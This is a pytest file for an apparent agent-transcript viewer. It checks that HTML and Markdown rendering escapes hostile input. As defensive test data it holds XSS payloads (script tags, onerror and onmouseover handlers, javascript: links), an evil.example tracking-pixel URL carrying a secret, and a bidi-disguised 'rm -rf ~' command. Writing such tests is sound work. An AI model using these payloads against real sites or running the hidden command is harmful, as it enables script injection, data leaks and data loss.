"""HTML of the views, without widgets: escaping, pairs, flags, diagram, charts."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentlab.history import validate
from agentlab.i18n import EN, ZH, set_language
from agentlab.loop import LoopResult
from agentlab.views.diagram import diagram_svg
from agentlab.views.render import (
    block_html,
    decision_html,
    error_html,
    fold,
    fold_markdown,
    markdown,
    pairing_table_html,
    result_html,
    result_markdown,
    short_id,
    tn,
    tokens_svg,
    totals_html,
    transcript_html,
)

SCRIPT = "<script>alert('x')</script>"
IMG = "<img src=x onerror=alert(1)>"
EVIL = f"Hi {SCRIPT} and {IMG} and <b style='position:fixed'>bold</b>"


class Tags(HTMLParser):
    """Every live tag and attribute a browser would build from some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def names(self) -> set[str]:
        return {tag for tag, _ in self.tags}

    def attributes(self) -> set[str]:
        return {name for _, attrs in self.tags for name in attrs}


# Every tag and attribute our HTML may hold; anything else came from the data.
SAFE_TAGS = {
    "style", "div", "span", "b", "i", "em", "strong", "code", "pre", "p", "br", "hr", "a",
    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "del", "s",
    "details", "summary", "label", "input", "table", "thead", "tbody", "tr", "th", "td",
    "svg", "title", "defs", "marker", "path", "rect", "polygon", "text", "g", "line", "img", "kbd",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "class", "style", "title", "href", "rel", "type", "hidden", "open", "alt", "src", "start", "lang",
    "align", "xmlns", "width", "height", "viewbox", "role", "font-family", "font-size",
    "font-weight", "text-anchor", "x", "y", "x1", "y1", "x2", "y2", "rx", "d", "points",
    "transform", "id", "refx", "refy", "markerwidth", "markerheight", "markerunits", "orient",
    "marker-end", "fill", "stroke", "data-node", "data-state", "data-edge", "data-hot",
    "data-tag", "data-stage", "data-running", "data-ended", "data-id", "aria-hidden",
}  # fmt: skip


def assert_inert(html: str) -> None:
    """Only our own tags and attributes; no script, no handler; images only from
    inline data; links only to http(s)/mailto, with rel="noopener noreferrer"."""
    tags = Tags(html)
    assert "script" not in tags.names()
    assert tags.names() <= SAFE_TAGS, tags.names() - SAFE_TAGS
    assert tags.attributes() <= SAFE_ATTRIBUTES, tags.attributes() - SAFE_ATTRIBUTES
    for tag, attrs in tags.tags:
        if tag == "img":
            assert str(attrs.get("src", "")).startswith("data:image/")
        if tag == "a":
            href = str(attrs.get("href") or "").strip().lower()  # none: an inert <a>
            assert not href or href.startswith(("http://", "https://", "mailto:")), href
            assert attrs.get("rel") == "noopener noreferrer"
        for value in (attrs.get("class") or "").split():
            assert value.startswith("al-"), value  # no class name from the data


def tool_turn(command: str = "echo hello", output: str = "hello", **result: object) -> list[dict]:
    return [
        {"role": "user", "content": "Say hello"},
        {
            "role": "assistant",
            "content": [
                {"type": "text", "text": "Let me run it."},
                {
                    "type": "tool_use",
                    "id": "toolu_01",
                    "name": "bash",
                    "input": {"command": command},
                },
            ],
        },
        {
            "role": "user",
            "content": [
                {"type": "tool_result", "tool_use_id": "toolu_01", "content": output, **result}
            ],
        },
        {"role": "assistant", "content": [{"type": "text", "text": "It printed **hello**."}]},
    ]


# --------------------------------------------------------------------------- escaping


def test_markdown_renders_and_keeps_raw_html_as_text() -> None:
    html = markdown(f"# Title\n\n**bold** and `code`\n\n{EVIL}")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert "&lt;script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert_inert(html)
    assert "style" not in Tags(html).attributes()


def test_markdown_refuses_javascript_links() -> None:
    html = markdown("[click](javascript:alert(1)) and [ok](https://example.org)")
    assert_inert(html)
    assert 'href="https://example.org"' in html


@pytest.mark.parametrize("where", ["text", "tool_input", "tool_name", "tool_output", "tool_id"])
def test_model_and_tool_text_is_escaped_everywhere(where: str) -> None:
    messages = tool_turn()
    if where == "text":
        messages[3]["content"][0]["text"] = EVIL
    elif where == "tool_input":
        messages[1]["content"][1]["input"] = {"command": EVIL}
    elif where == "tool_name":
        messages[1]["content"][1]["name"] = IMG
    elif where == "tool_output":
        messages[2]["content"][0]["content"] = EVIL
    else:
        messages[1]["content"][1]["id"] = IMG
        messages[2]["content"][0]["tool_use_id"] = IMG
    html = transcript_html(messages)
    assert_inert(html)
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_tool_input_that_is_not_a_command_is_shown_as_escaped_json() -> None:
    block = {
        "type": "tool_use",
        "id": "t1",
        "name": "write",
        "input": {"path": "a.txt", "text": SCRIPT},
    }
    html = block_html(block)
    assert "&quot;path&quot;: &quot;a.txt&quot;" in html
    assert_inert(html)


def test_result_content_blocks_text_image_and_unknown() -> None:
    good = {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}
    bad = {"type": "base64", "media_type": "image/png", "data": '"><script>x</script>'}
    block = {
        "type": "tool_result",
        "tool_use_id": "t1",
        "content": [
            {"type": "text", "text": IMG},
            {"type": "image", "source": good},
            {"type": "image", "source": bad},
            {"type": "document", "title": SCRIPT},
        ],
    }
    html = block_html(block)
    assert_inert(html)
    assert html.count("<img") == 1 and 'src="data:image/png;base64,iVBORw0KGgo="' in html
    assert "document block" in html


def test_long_output_is_folded_with_a_way_to_expand() -> None:
    text = "\n".join(f"line {i}" for i in range(100))
    html = fold(text)
    assert "<details" in html and "<summary>show 88 more lines" in html
    head, rest = html.split("<details")
    assert "line 11<" in head and "line 12" not in head
    assert "line 12\n" in rest and "line 99" in rest
    short = fold("one\ntwo")
    assert "<details" not in short


def test_short_id() -> None:
    assert short_id("toolu_01") == "toolu_01"
    assert short_id("toolu_01A09q90qw90lq917835lq9") == "toolu_…835lq9"


# --------------------------------------------------------------------------- pairs and flags


def test_pair_shares_a_colour_and_number_between_use_and_result() -> None:
    html = transcript_html(tool_turn())
    assert html.count("⇄ 1") == 3  # tool_use card, tool_result card, pairs table
    assert "answered in messages[2]: ok" in html
    assert "answers the tool_use in messages[1]" in html
    assert "the API would accept this history" in html


def test_error_result_is_marked() -> None:
    html = transcript_html(tool_turn(output="boom", is_error=True))
    assert "al-error-block" in html and ">is_error<" in html
    assert "answered in messages[2]: error" in html


def test_unanswered_tool_use_and_unexpected_result_are_flagged_with_their_rule() -> None:
    messages = tool_turn()
    messages[2]["content"][0]["tool_use_id"] = "toolu_99"
    html = transcript_html(messages)
    problems = {p.rule for p in validate(messages)}
    assert problems == {"unanswered", "unexpected_result"}
    assert "breaks the rule &#x27;unanswered&#x27;" in html
    assert "breaks the rule &#x27;unexpected_result&#x27;" in html
    assert "`tool_use` ids were found without `tool_result` blocks" in html
    assert "unexpected `tool_use_id` found in `tool_result` blocks: toolu_99" in html
    assert "2 problems" in html
    assert "answers no tool_use in the message before it" in html


def test_a_history_ending_on_a_tool_use_is_waiting_not_broken() -> None:
    html = transcript_html(tool_turn()[:2])
    assert "waiting for its tool_result" in html
    assert "the API would accept this history" in html


def test_pairing_table_statuses_and_durations() -> None:
    messages = tool_turn()
    messages[1]["content"].append(
        {"type": "tool_use", "id": "toolu_02", "name": "bash", "input": {"command": "ls"}}
    )
    messages[2]["content"].append(
        {"type": "tool_result", "tool_use_id": "toolu_02", "content": "x", "is_error": True}
    )
    html = pairing_table_html(messages, {"toolu_01": 0.25})
    assert "✓ ok" in html and "✗ error" in html
    assert "0.25 s" in html and "—" in html
    assert "waiting" in pairing_table_html(tool_turn()[:2])
    assert "No tool calls yet." in pairing_table_html([{"role": "user", "content": "hi"}])


def test_transcript_is_deterministic() -> None:
    assert transcript_html(tool_turn()) == transcript_html(tool_turn())
    assert "0x" not in transcript_html(tool_turn())


# --------------------------------------------------------------------------- diagram, tokens, results


@pytest.mark.parametrize(
    ("stage", "lit"),
    [
        ("request", {"request"}),
        ("decide", {"decide"}),
        ("execute", {"execute"}),
        ("append", {"pair", "append"}),
        ("done", {"end"}),
    ],
)
def test_diagram_lights_the_next_stage(stage: str, lit: set[str]) -> None:
    svg = diagram_svg(stage)
    tags = Tags(svg)
    states = {
        a["data-node"]: a["data-state"] for t, a in tags.tags if t == "g" and "data-node" in a
    }
    assert {n for n, s in states.items() if s} == lit
    assert all(s == ("ended" if stage == "done" else "next") for n, s in states.items() if n in lit)
    running = Tags(diagram_svg(stage, running=True))
    assert {a["data-state"] for t, a in running.tags if t == "g" and a.get("data-state")} == {
        "running"
    }


def test_diagram_has_every_part_of_the_lesson_picture() -> None:
    svg = diagram_svg("request")
    for label in (
        "user task",
        "request model",
        "tool_use?",
        "run tool",
        "pair by id",
        "append",
        "end of turn",
        ">no<",
        ">yes<",
    ):
        assert label in svg


def test_diagram_in_chinese() -> None:
    set_language("zh")
    try:
        svg = diagram_svg("execute")
    finally:
        set_language("en")
    assert "运行工具" in svg and "请求模型" in svg and "下一步" in svg


def test_token_chart_has_three_bars_per_turn() -> None:
    usage = [
        {
            "input_tokens": 100,
            "output_tokens": 20,
            "cache_read_input_tokens": 50,
            "cache_creation_input_tokens": 0,
        },
        {"input_tokens": 160, "output_tokens": 40},
    ]
    svg = tokens_svg(usage)
    rects = [a for t, a in Tags(svg).tags if t == "rect"]
    assert len(rects) == 3 + 2 * 3  # the legend's three swatches, then three bars per turn
    heights = [float(a["height"]) for a in rects[3:]]
    assert heights[3] == max(heights)  # turn 2's input is the biggest number
    assert "turn 1 · cache: 50" in svg and "turn 2 · input: 160" in svg
    assert tokens_svg([]) == ""


def test_loop_result_renders_as_html() -> None:
    messages = tool_turn(output=IMG)
    result = LoopResult(messages, "It printed **hello**.", "end_turn", 2, {})
    html = result._repr_html_()
    assert html == result_html(result)
    assert "<strong>hello</strong>" in html and "<details" in html
    assert "transcript (4 messages)" in html
    assert_inert(html)


def test_every_view_string_has_a_chinese_entry() -> None:
    keys = [k for k in EN if k.startswith(("view.", "diagram.")) and not k.endswith(".one")]
    assert len(keys) > 50
    assert [k for k in keys if k not in ZH] == []


# --------------------------------------------------------------------------- any history at all

pieces = st.sampled_from(["a", " ", "<", ">", "&", '"', "'", "=", "/", "\n", "**b**", SCRIPT, IMG])
texts = st.lists(pieces, max_size=8).map("".join)
ids = st.sampled_from(["t1", "t2", IMG])
block = st.one_of(
    st.builds(lambda s: {"type": "text", "text": s}, texts),
    st.builds(
        lambda i, s: {"type": "tool_use", "id": i, "name": s, "input": {"command": s}}, ids, texts
    ),
    st.builds(
        lambda i, s, e: {"type": "tool_result", "tool_use_id": i, "content": s, "is_error": e},
        ids,
        texts,
        st.booleans(),
    ),
    st.builds(lambda s: {"type": s}, texts),
)
message = st.one_of(
    st.builds(
        lambda r, c: {"role": r, "content": c}, st.sampled_from(["user", "assistant", "x"]), texts
    ),
    st.builds(
        lambda r, c: {"role": r, "content": c},
        st.sampled_from(["user", "assistant"]),
        st.lists(block, max_size=3),
    ),
    st.sampled_from([None, 3, "plain"]),
)


@settings(max_examples=150, deadline=None)
@given(st.lists(message, max_size=6))
def test_any_history_renders_inert_html(messages: list) -> None:
    html = transcript_html(messages)
    assert_inert(html)
    assert html.count('<details class="al-card ') == len(messages)


# --------------------------------------------------------------------------- issue 13.6: HTML safety

HOSTILE = [
    SCRIPT,
    IMG,
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/p.png?secret=1)",
    "![inline](data:image/png;base64,iVBORw0KGgo=)",
    "[d](data:text/html;base64,PHNjcmlwdD4=)",
    "[i](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "`a``[x](javascript:alert(1))``",
    "\\`[x](javascript:alert(1))`",
    "</details></summary><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "{0} {n} %s",
]


def test_markdown_images_become_links_and_never_load() -> None:
    html = markdown(
        "see ![pixel](https://evil.example/p.png?x=1) and ![i](data:image/png;base64,AA==)"
    )
    assert "<img" not in html
    assert '<a href="https://evil.example/p.png?x=1" rel="noopener noreferrer">🖼 pixel</a>' in html
    assert "data:" not in html.split("🖼 i")[0].rsplit("<", 1)[-1]  # no data: link either
    assert_inert(html)


def test_links_get_rel_and_only_web_schemes() -> None:
    html = markdown(
        "[a](https://example.org) [b](data:text/html,hi) [c](vbscript:x) [d](mailto:x@y.z)"
    )
    assert html.count('rel="noopener noreferrer"') == 2
    assert "data:text/html" not in html.replace("[b](data:text/html,hi)", "")
    assert_inert(html)


@pytest.mark.parametrize("role", ['x" onmouseover="alert(1)', "<b>boss</b>", "system", "tool"])
def test_a_loaded_role_is_text_never_an_attribute(role: str) -> None:
    messages = [{"role": role, "content": "hi"}, *tool_turn()[1:]]
    html = transcript_html(messages)
    assert_inert(html)
    assert 'class="al-card al-card-other"' in html
    assert "role " + role.replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;") in html


def test_thinking_blocks_are_a_folded_row_without_the_signature() -> None:
    signature = "EqQBCkgIARABGAIiQL" + "x" * 300 + "Zz9"
    hidden = block_html({"type": "thinking", "thinking": "", "signature": signature})
    assert hidden.startswith('<details class="al-block al-thinking">')  # folded: no open
    assert "thinking (hidden)" in hidden and signature not in hidden
    assert "EqQBCk…xZz9" in hidden and "321 characters" in hidden
    shown = block_html(
        {"type": "thinking", "thinking": "Let me list\nthe files.", "signature": "s1"}
    )
    assert "thinking (2 lines)" in shown and "Let me list" in shown
    redacted = block_html({"type": "redacted_thinking", "data": "Zm9v" * 100})
    assert "redacted thinking" in redacted and "Zm9v" * 100 not in redacted
    messages = tool_turn()
    messages[1]["content"].insert(0, {"type": "thinking", "thinking": "", "signature": signature})
    html = transcript_html(messages)
    assert "thinking (hidden)" in html and signature not in html
    assert_inert(html)


def test_a_long_answer_folds_after_its_first_lines() -> None:
    answer = "\n".join(f"line {i}" for i in range(200))
    html = fold_markdown(answer)
    head, rest = html.split("<details", 1)
    assert "line 19" in head and "line 20" not in head
    assert "show 180 more lines" in rest and "line 199" in rest
    assert "<details" not in fold_markdown("short\nanswer")


def test_model_text_keeps_its_line_breaks() -> None:
    # QA pass 4: "line 0\nline 1..." (a file listing) read as one run-on paragraph
    html = markdown("line 0\nline 1\nline 2\n\nnext paragraph")
    assert re.search(r"line 0<br\s*/?>\s*line 1<br\s*/?>\s*line 2</p>", html), html
    assert html.count("<p>") == 2
    assert markdown("two spaces  \nbreak").count("<br") == 1  # a hard break stays one


def test_line_breaks_leave_code_lists_and_escaping_alone() -> None:
    html = markdown("Files:\n```\na.py\nb.py\n```\n- one\n- two\n\n<script>x</script>\nend")
    code = html.split("<pre><code>", 1)[1].split("</code></pre>", 1)[0]
    assert code == "a.py\nb.py\n"  # no <br> inside code
    assert "<li>one</li>" in html and "<li>two</li>" in html
    assert "&lt;script&gt;x&lt;/script&gt;<br" in html
    assert_inert(html)


def test_a_long_listing_folds_and_keeps_its_line_breaks_on_both_sides() -> None:
    answer = "\n".join(f"line {i}" for i in range(200))
    head, rest = fold_markdown(answer).split("<details", 1)
    assert head.count("<br") == 19 and rest.count("<br") == 179
    assert "show 180 more lines" in rest
    assert_inert(head + "<details" + rest)


def test_a_fenced_block_cut_by_the_fold_stays_code_on_both_sides() -> None:
    answer = "Here:\n```python\n" + "\n".join(f"x = {i}" for i in range(60)) + "\n```\nDone."
    head, rest = fold_markdown(answer).split("<details", 1)
    assert "<pre><code" in head and "x = 17" in head
    assert "<pre><code" in rest and "x = 59" in rest and "<p>Done.</p>" in rest


def test_earlier_turns_fold_and_the_current_turn_stays_open() -> None:
    messages = tool_turn()[:3]
    for k in range(2, 5):
        turn = tool_turn(command=f"echo {k}")[1:3]
        turn[0]["content"][1]["id"] = turn[1]["content"][0]["tool_use_id"] = f"toolu_{k}"
        messages += turn
    opened = [
        part.split(">", 1)[0].endswith(" open")
        for part in transcript_html(messages).split('<details class="al-card ')[1:]
    ]
    assert len(opened) == len(messages) == 9
    assert opened == [True, False, False, False, False, False, True, True, True]
    folded = transcript_html(messages).split('<details class="al-card ')[4]  # messages[3]
    assert '<span class="al-preview">Let me run it. · bash: echo 2</span>' in folded


def test_plurals_have_no_parenthesised_s() -> None:
    assert tn("view.count.messages", 1) == "1 message"
    assert tn("view.count.messages", 2) == "2 messages"
    assert tn("view.count.tool_calls", 0) == "0 tool calls"
    html = transcript_html(tool_turn()) + result_html(
        LoopResult(tool_turn(), "", "end_turn", 1, {})
    )
    assert "(s)" not in html
    set_language("zh")
    try:
        assert tn("view.count.messages", 1) == "1 条消息"
    finally:
        set_language("en")


def test_pairs_table_and_cards_show_what_really_ran() -> None:
    messages = tool_turn(command="ls -la")
    runs = {"toolu_01": {"verdict": "edited", "input": {"command": "ls *.py"}}}
    table = pairing_table_html(messages, {"toolu_01": 0.5}, runs)
    assert "edited" in table and "ls *.py" in table and "the model asked for: ls -la" in table
    card = transcript_html(messages, runs=runs)
    assert "what ran:" in card and "<code>ls *.py</code>" in card
    denied = {"toolu_01": {"verdict": "denied", "reason": "not today"}}
    table = pairing_table_html(tool_turn(output="Denied", is_error=True), {"toolu_01": 0.0}, denied)
    assert "✗ denied" in table and "0.00 s" not in table and "—" in table
    assert "not today" in transcript_html(tool_turn(), runs=denied)


def test_a_turn_limit_stop_is_shown_as_such() -> None:
    messages = tool_turn()[:3] + [
        {"role": "assistant", "content": [{"type": "text", "text": "Let me check with bash."}]}
    ]
    result = LoopResult(
        messages,
        "Let me check with bash.",
        "tool_use",
        20,
        {},
        ended="turn_limit",
        explanation="The loop reached its limit.",
    )
    html = result_html(result)
    assert "ended: turn limit" in html and "stop_reason max_turns" not in html
    assert html.index("ended: turn limit") < html.index("Let me check with bash.")
    md = result_markdown(result)
    assert md.startswith("**ended: turn limit**")


def test_decision_box_knows_an_answer_is_in_before_decide() -> None:
    assert "has not answered" in decision_html(None)
    pending = decision_html(None, answered="tool_use")
    assert "has not answered" not in pending and "stop_reason tool_use" in pending


def test_totals_say_tokens_and_cost() -> None:
    usage = {"input_tokens": 1200, "output_tokens": 300, "cache_read_input_tokens": 800}
    assert "2000 tokens in · 300 tokens out · about $0.0123" in totals_html(usage, 0.0123)
    assert "no price known for m-x" in totals_html(usage, None, "m-x")


def test_diagram_marks_one_next_stage_and_a_stop_that_is_not_the_models() -> None:
    two_lit = diagram_svg("append")
    assert two_lit.count('data-state="next"') == 2 and two_lit.count("data-tag=") == 1
    stopped = diagram_svg("done", ended="interrupted")
    assert 'data-node="end" data-state="stopped"' in stopped and "stopped" in stopped
    assert 'data-edge="decide-end" data-hot="yes"' not in stopped
    answered = diagram_svg("done", ended="model")
    assert 'data-edge="decide-end" data-hot="yes"' in answered


def _live_links(markdown_text: str) -> list[tuple[str, str]]:
    """Links, images and raw HTML tags a Markdown renderer (with HTML on, as GitHub's) would make."""
    from markdown_it import MarkdownIt

    found = []
    # with GFM's tables, as GitHub and JupyterLab read Markdown (github.github.com/gfm)
    stack = MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown_text)
    while stack:
        token = stack.pop()
        stack.extend(token.children or [])
        if token.type in ("link_open", "image"):
            found.append((token.type, str(token.attrGet("href") or token.attrGet("src"))))
        if token.type in ("html_inline", "html_block"):
            tags = re.findall(r"<\s*/?\s*([a-zA-Z]+)", token.content)
            found += [("html", tag) for tag in tags if tag not in ("details", "summary")]
    return found


def test_result_markdown_keeps_no_link_or_image_from_the_model() -> None:
    evil = "\n\n".join(HOSTILE)
    messages = [{"role": "user", "content": evil}, *tool_turn(command=evil, output=evil)[1:]]
    messages[3]["content"][0]["text"] = evil
    result = LoopResult(messages, evil, "end_turn", 2, {}, explanation=evil)
    md = result_markdown(result)
    assert _live_links(md) == []
    assert "javascript:alert(1)" in md  # shown as text, not dropped


# What ends a paragraph inside a would-be code span (a blank line, a line that opens an
# HTML block, a quote, a heading, a fence): block structure is read before inline
# (spec.commonmark.org/0.31.2, sections 4.6 and 6.1), so such a span is no code span.
SPLIT_SPANS = [
    "`x\n\n<img src=x onerror=alert(1)>\n\ny`",
    "`x\n<script>alert(1)</script>\ny`",
    "`x\n> <img src=x onerror=alert(1)>\n`",
    "``a\n# <img src=x onerror=alert(1)>\n``",
    "`a`\n```\n`<img src=x onerror=alert(1)>`",
    # in a table row a pipe ends the cell even inside a code span (GFM spec 0.29, 4.10)
    "| a | b |\n|---|---|\n| `x|<img src=x onerror=alert(1)>` | y |",
]
markdownish = st.text(alphabet="`\\\n <>/img=x[]()&#-*", max_size=40)


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(st.sampled_from(SPLIT_SPANS), markdownish, hostile_text := st.sampled_from(HOSTILE))
)
def test_model_text_in_a_markdown_transcript_makes_no_html_link_or_image(text: str) -> None:
    from agentlab.views.render import to_markdown

    messages = [
        {"role": "user", "content": text},
        {"role": "assistant", "content": [
            {"type": "text", "text": text},
            {"type": "tool_use", "id": text, "name": text, "input": {"command": text}},
        ]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": text, "content": text}]},
        {"role": "assistant", "content": [{"type": text, "text": text}]},  # a block of no known kind
        {"role": "assistant", "content": [{"type": "thinking", "thinking": "", "signature": text}]},
    ]  # fmt: skip
    result = LoopResult(messages, text, "end_turn", 2, {}, explanation=text)
    assert _live_links(to_markdown(messages)) == []
    assert _live_links(result_markdown(result)) == []


hostile = st.one_of(st.sampled_from(HOSTILE), texts, st.text(max_size=12))
hostile_block = st.one_of(
    st.builds(lambda s: {"type": "text", "text": s}, hostile),
    st.builds(
        lambda i, n, s: {"type": "tool_use", "id": i, "name": n, "input": {"command": s}},
        hostile,
        hostile,
        hostile,
    ),
    st.builds(
        lambda i, s: {"type": "tool_use", "id": i, "name": "x", "input": {s: s}}, ids, hostile
    ),
    st.builds(
        lambda i, s, e: {"type": "tool_result", "tool_use_id": i, "content": s, "is_error": e},
        hostile,
        hostile,
        st.booleans(),
    ),
    st.builds(
        lambda i, s, m: {
            "type": "tool_result",
            "tool_use_id": i,
            "content": [
                {"type": "text", "text": s},
                {"type": "image", "source": {"type": "base64", "media_type": m, "data": s}},
            ],
        },
        ids,
        hostile,
        st.one_of(st.just("image/png"), hostile),
    ),
    st.builds(lambda s, g: {"type": "thinking", "thinking": s, "signature": g}, hostile, hostile),
    st.builds(lambda s: {"type": "redacted_thinking", "data": s}, hostile),
    st.builds(lambda s: {"type": s, "x": s}, hostile),
)
hostile_message = st.builds(
    lambda r, c: {"role": r, "content": c},
    st.one_of(st.sampled_from(["user", "assistant"]), hostile),
    st.one_of(hostile, st.lists(hostile_block, max_size=3)),
)


@settings(max_examples=120, deadline=None)
@given(st.lists(hostile_message, max_size=5), hostile, hostile)
def test_hostile_strings_in_every_field_of_every_view_stay_text(
    messages: list, word: str, ending: str
) -> None:
    """Issue 13.6: roles, ids, names, inputs, outputs, thinking, signatures,
    media types, stop reasons, explanations and errors, in every fallback."""
    from agentlab.loop import Decision

    ids_seen = [str(b.get("id")) for m in messages for b in m["content"] if isinstance(m["content"], list) and b.get("type") == "tool_use"]  # fmt: skip
    runs = {i: {"verdict": "edited", "input": {"command": word}} for i in ids_seen[:1]}
    runs.update({i: {"verdict": "denied", "reason": word} for i in ids_seen[1:2]})
    result = LoopResult(messages, word, word, 1, {}, explanation=word, ended=ending)
    pages = [
        transcript_html(messages, runs=runs, durations={i: 1.0 for i in ids_seen}),
        pairing_table_html(messages, None, runs),
        result_html(result),
        decision_html(Decision("execute", word, (), word)),
        decision_html(None, answered=word),
        error_html(RuntimeError(word), word),
        totals_html({"input_tokens": 1}, None, word),
        diagram_svg(word, ended=ending),
    ]
    for html in pages:
        assert_inert(html)
    assert _live_links(result_markdown(result)) == []


BIDI = "echo safe \u202e; rm -rf ~ #\u202c"  # shows as "echo safe # ~ fr- mr ;" in a browser


@pytest.mark.parametrize("where", ["text", "tool_input", "tool_output"])
def test_characters_that_reorder_or_hide_text_are_written_out(where: str) -> None:
    # Bidi overrides make a browser draw a command in another order than it runs
    # (the "Trojan Source" trick, CVE-2021-42574); zero-width spaces hide text.
    messages = tool_turn()
    hidden = BIDI + " a\u200bb \u2066x\u2069"
    if where == "text":
        messages[3]["content"][0]["text"] = hidden
    elif where == "tool_input":
        messages[1]["content"][1]["input"] = {"command": hidden}
    else:
        messages[2]["content"][0]["content"] = hidden
    page = transcript_html(messages) + pairing_table_html(messages)
    for ch in "\u202e\u202c\u200b\u2066\u2069":
        assert ch not in page
    assert "\\u202e" in page and "\\u200b" in page
    assert "👨\u200d👩" in transcript_html([{"role": "user", "content": "👨\u200d👩 family"}])


def test_a_long_bash_command_is_folded_like_long_output() -> None:
    """A 10,000-character command (or a 200-line heredoc) was drawn whole in every
    card and in the approval panel, pushing Approve/Deny thousands of px down."""
    from agentlab.views.render import FOLD_CHARS, block_html

    heredoc = "cat > notes.txt <<'EOF'\n" + "\n".join(f"line {i}" for i in range(200)) + "\nEOF"
    for command in ("echo " + "x" * 10_000, heredoc):
        block = {"type": "tool_use", "id": "toolu_1", "name": "bash", "input": {"command": command}}
        html = block_html(block)
        head = html.split('<details class="al-more">')[0]
        assert '<details class="al-more"><summary>show ' in html
        assert len(head) < FOLD_CHARS + 600
        assert '<span class="al-prompt">$ </span>' in head
    short = block_html(
        {"type": "tool_use", "id": "toolu_2", "name": "bash", "input": {"command": "ls -la"}}
    )
    assert "al-more" not in short and '<span class="al-prompt">$ </span>ls -la</pre>' in short


def test_a_command_to_approve_is_shown_whole_inert_and_with_its_escapes() -> None:
    from agentlab.views.render import whole_input_html

    command = f"ls -la{' ' * 500}; {EVIL}\n" + "\n".join(f"# {i}" for i in range(30)) + "\x1b[2K"
    html = whole_input_html({"command": command})
    assert_inert(html)
    assert "al-more" not in html and html.count("<pre") == 1  # one box, nothing folded
    assert '<span class="al-spaces">' + " " * 500 + "</span>" in html  # the run, marked
    text = re.sub(r"<[^>]+>", "", html)
    assert unescape(text) == "$ " + command.replace("\x1b", "\\x1b")
    other = whole_input_html({"path": "a.txt", "text": EVIL})
    assert_inert(other)
    assert "a.txt" in other


# --------------------------------------------------------------------------- the todo panel


def test_todo_html_gives_each_status_a_mark_and_a_word_and_escapes_everything() -> None:
    from agentlab.views.render import todo_html

    items = [
        {"id": "1", "text": "done one", "status": "completed"},
        {"id": "2", "text": EVIL, "status": "in_progress"},
        {"id": "3", "text": "later", "status": "pending"},
        {"id": "4", "text": "odd", "status": '"><script>x</script>'},  # a status set by hand
    ]
    html = todo_html(items, 1, reminder=(7, EVIL), changed=["2"])
    assert_inert(html)
    text = unescape(re.sub(r"<[^>]+>", "", html))
    assert "✓1. done onedone" in text and "○3. laterto do" in text
    assert f"▶2. {EVIL}in progress" in text  # the model's words, as words
    assert "Reminder added after the tool_results of messages[7]:" in text
    assert "1 of 4 done" in text and "1 round since the last todo call" in text
    classes = re.findall(r'<li class="([^"]*)"', html)
    assert classes == [
        "al-todo-completed",
        "al-todo-in_progress al-fresh",
        "al-todo-pending",
        "al-todo-pending",  # an unknown status: drawn as pending, its word escaped
    ]
    assert "al-due" not in html and "al-due" in todo_html([], 3)
    assert "No plan yet" in todo_html([], 0) and "al-reminder-note" not in todo_html([], 0)


def test_a_reminder_is_marked_only_after_the_results_of_its_message() -> None:
    from agentlab.tools.todo import REMINDER

    messages = tool_turn()
    messages[2]["content"].append({"type": "text", "text": REMINDER})
    html = transcript_html(messages)
    assert html.count('class="al-reminder"') == 1
    assert html.index('<span class="al-kind">tool_result</span>') < html.index(
        'class="al-reminder"'
    )
    other = tool_turn()
    other[2]["content"].append({"type": "text", "text": "something else"})
    assert 'class="al-reminder"' not in transcript_html(other)
    assert transcript_html(other, reminders={2}).count('class="al-reminder"') == 1


def test_a_chinese_section_title_keeps_the_case_of_its_english_words() -> None:
    from agentlab.views.render import STYLE, section

    assert 'lang="zh"' not in section("History")
    set_language("zh")
    try:
        assert section("历史（messages 列表）").startswith('<div class="al-section" lang="zh">')
    finally:
        set_language("en")
    assert ".al-section:lang(zh){text-transform:none" in STYLE
